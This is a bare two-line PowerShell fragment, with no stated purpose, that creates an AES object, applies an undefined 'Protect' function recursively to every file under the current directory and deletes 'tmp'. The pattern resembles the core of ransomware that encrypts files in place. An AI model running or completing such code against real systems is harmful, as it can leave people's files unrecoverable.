$aes = New-Object System.Security.Cryptography.AesManaged
Get-ChildItem . -Recurse | % { Protect $_ }; Remove-Item tmp
